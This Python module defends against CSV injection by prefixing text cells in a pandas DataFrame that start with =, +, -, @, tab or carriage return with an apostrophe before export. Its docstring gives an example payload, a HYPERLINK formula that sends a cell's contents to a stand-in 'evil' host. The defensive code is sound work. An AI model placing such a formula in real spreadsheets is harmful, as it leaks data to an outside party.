"""Tables made safe to open in a spreadsheet: no text cell can run as a formula (CSV injection).

    safe = neutralise_formulas(frame); safe.to_csv(path, index=False)

A patient id or group label such as `=HYPERLINK("http://evil/?"&A1)` or `@SUM(1+1)` is data to us,
but Excel, LibreOffice and Google Sheets run it as a formula when the CSV is opened. Following OWASP's
CSV-injection guidance, a text cell starting with = + - @, a tab or a carriage return is written with
a leading apostrophe, which spreadsheets take as "this is text". Real numbers are left alone, and so is
text that is just a plain number ("-1.5", "+3"): that is a value, not a formula.

Not a library: `defusedcsv` does this, but only by wrapping the standard library's csv writer, which
pandas' `to_csv` does not use (it has its own C writer), and its rule misses a leading tab and
carriage return. openpyxl needs it too: it stores any string starting with "=" as a formula.
"""

from __future__ import annotations

import re

import pandas as pd

# OWASP: the characters a spreadsheet reads as the start of a formula (tab and CR can precede one)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def neutralise_cell(value: object) -> object:
    """The value, with a leading apostrophe when it is text a spreadsheet would read as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_START) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def neutralise_formulas(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of the frame in which no text cell (nor column name) can be read as a formula.

    Numeric, boolean and date columns are left as they are; text columns keep their dtype
    (categorical ones become plain text).
    """
    safe = frame.copy()
    safe.columns = [neutralise_cell(c) for c in frame.columns]
    for i in range(frame.shape[1]):  # by position: column names may repeat
        column = frame.iloc[:, i]
        if isinstance(column.dtype, pd.CategoricalDtype):
            safe.isetitem(i, column.astype(object).map(neutralise_cell, na_action="ignore"))
        elif pd.api.types.is_object_dtype(column.dtype) or pd.api.types.is_string_dtype(column.dtype):
            safe.isetitem(i, column.map(neutralise_cell, na_action="ignore").astype(column.dtype))
    return safe
